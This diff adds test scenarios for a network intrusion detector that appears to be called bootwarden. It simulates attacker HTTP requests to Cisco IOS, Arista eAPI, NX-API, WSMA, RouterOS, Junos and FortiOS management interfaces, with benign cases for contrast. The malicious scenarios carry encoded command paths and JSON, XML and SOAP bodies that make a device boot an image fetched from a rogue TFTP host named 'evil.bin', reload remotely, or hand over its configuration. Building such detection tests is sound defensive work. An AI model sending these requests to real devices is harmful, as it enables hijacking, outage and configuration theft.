@@ -1,0 +1,107 @@
+"""BW07, BW05, BW18: orders by web management in clear, in each vendor's form and in any encoding."""
+
+from __future__ import annotations
+
+import json
+
+from bootwarden.scenarios.model import Expect, Notice, scenario
+from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, ROGUE
+from bootwarden.traffic import http
+from bootwarden.traffic.wire import Wire
+
+EVIL = f"tftp://{ROGUE}/evil.bin"
+BOOT = Notice("Boot_Command", DEVICE, ROGUE, "evil.bin")
+
+
+def posted(value: object) -> bytes:
+    """A body in JSON."""
+    return json.dumps(value).encode()
+
+
+@scenario("BW07", "malicious", site=HQ, with_site=Expect((BOOT,)))
+def bw07_web_ios_copy(wire: Wire) -> None:
+    """IOS's browser interface: the words of a command as parts of the path."""
+    path = f"/level/15/exec/-/copy/tftp:%2f%2f{ROGUE}%2fevil.bin/flash:/CR"
+    http.order(wire, ATTACKER, DEVICE, path)
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    site=HQ,
+    with_site=Expect((Notice("Boot_Command", DEVICE, None, "startup-config"), BOOT)),
+)
+def bw07_web_ios_encoded(wire: Wire) -> None:
+    """The same, each letter encoded; a level that IOS does not check; slashes that are not encoded at all."""
+    word = "".join(f"%{ord(letter):02X}" for letter in "tftp-server")
+    http.order(wire, ATTACKER, DEVICE, f"/level/16/configure/-/{word}/nvram:startup-config/CR")
+    http.order(wire, ATTACKER, DEVICE, f"/level/15/configure/-/boot/system/{EVIL}", client_port=50181)
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    site=HQ,
+    with_site=Expect(
+        tuple(Notice("Boot_Command", f"10.0.1.{last}", ROGUE, "evil.bin") for last in (1, 2, 3, 4, 5, 6, 7))
+    ),
+)
+def bw07_web_apis(wire: Wire) -> None:
+    """eAPI, NX-API (three forms), WSMA, and RouterOS REST: a boot order in the body of each."""
+    eapi = {"jsonrpc": "2.0", "method": "runCmds", "params": {"version": 1, "cmds": ["enable", f"boot system {EVIL}"]}}
+    http.order(wire, ATTACKER, "10.0.1.1", "/command-api", posted(eapi))
+    with_input = {"cmds": [{"cmd": "configure"}, {"cmd": f"copy {EVIL} flash:", "input": ""}]}
+    slashes = posted({"method": "runCmds", "params": with_input}).replace(b"/", b"\\/")
+    http.order(wire, ATTACKER, "10.0.1.2", "/command-api", slashes, mss=64)
+    form = {"ins_api": {"version": "1.0", "type": "cli_conf", "input": f"conf t ;boot nxos {EVIL}"}}
+    http.order(wire, ATTACKER, "10.0.1.3", "/ins", posted(form))
+    xml = f"<?xml version='1.0'?><ins_api><type>cli_conf</type><input>boot nxos {EVIL}</input></ins_api>"
+    http.order(wire, ATTACKER, "10.0.1.4", "/ins", xml.encode(), kind="text/xml")
+    rpc = [{"jsonrpc": "2.0", "method": "cli", "params": {"cmd": f"boot nxos {EVIL}", "version": 1}, "id": 1}]
+    http.order(wire, ATTACKER, "10.0.1.5", "/ins", posted(rpc), kind="application/json-rpc")
+    soap = (
+        '<SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/"><SOAP:Body>'
+        '<request xmlns="urn:cisco:wsma-config" correlator="1"><configApply><config-data><cli-config-data>'
+        f"<cmd>boot system {EVIL}</cmd></cli-config-data></config-data></configApply></request>"
+        "</SOAP:Body></SOAP:Envelope>"
+    )
+    http.order(wire, ATTACKER, "10.0.1.6", "/%2577ebui_wsma_http", soap.encode(), kind="text/xml")
+    http.order(wire, ATTACKER, "10.0.1.7", "/rest/tool/fetch", posted({"url": EVIL, "dst-path": "evil.bin"}))
+
+
+@scenario(
+    "BW05",
+    "malicious",
+    site=HQ,
+    with_site=Expect(tuple(Notice("Remote_Reload", f"10.0.1.{last}") for last in (1, 2, 3, 4))),
+)
+def bw05_web_reloads(wire: Wire) -> None:
+    """A reload by IOS's browser interface, eAPI, RouterOS REST and Junos REST."""
+    http.order(wire, ATTACKER, "10.0.1.1", "/level/15/exec/-/reload/CR")
+    eapi = {"jsonrpc": "2.0", "method": "runCmds", "params": {"version": 1, "cmds": ["enable", "reload now"]}}
+    http.order(wire, ATTACKER, "10.0.1.2", "/command-api", posted(eapi))
+    http.order(wire, ATTACKER, "10.0.1.3", "/rest/system/reboot", b"")
+    http.order(wire, ATTACKER, "10.0.1.4", "/rpc/request-reboot", b"", kind="application/xml")
+
+
+@scenario("BW18", "malicious", site=HQ, with_site=Expect((Notice("Config_Exfiltration", DEVICE),)))
+def bw18_web_fortios_backup(wire: Wire) -> None:
+    """FortiOS hands its configuration to whoever has a session."""
+    path = "/api/v2/monitor/system/config/backup?scope=global"
+    http.order(wire, ATTACKER, DEVICE, path, answer=b"#config-version=FGT60E-7.2.5\nconfig system global\nend\n")
+
+
+@scenario("BW07", "benign", site=HQ, with_site=Expect())
+def bw07_web_daily_work(wire: Wire) -> None:
+    """Administrators ask what there is, fetch what is approved, and read pages that quote such requests."""
+    http.order(wire, ADMIN, DEVICE, "/level/15/exec/-/show/running-config/CR")
+    http.order(
+        wire, ADMIN, DEVICE, f"/level/15/exec/-/copy/tftp:%2f%2f{BOOT_SERVER}%2f{IMAGE}/flash:/CR", client_port=50181
+    )
+    shows = {"jsonrpc": "2.0", "method": "runCmds", "params": {"cmds": ["show version", "show reload cause"]}}
+    http.order(wire, ADMIN, DEVICE, "/command-api", posted(shows), client_port=50182)
+    page = f"<html><pre>GET /level/15/exec/-/copy/{EVIL}/flash:/CR</pre><p>boot system {EVIL}</p></html>"
+    http.get(wire, DEVICE, BOOT_SERVER, "/wiki/level/15.html", page.encode(), kind="text/html")
+    wiki = posted({"text": f"how to: boot system {EVIL}", "method": "runCmds"})
+    http.order(wire, "10.20.1.5", "10.20.0.80", "/wiki/edit", wiki)
+    http.order(wire, ATTACKER, "10.20.0.80", f"/search?q=/level/15/exec/-/copy/{EVIL}", client_port=50183)
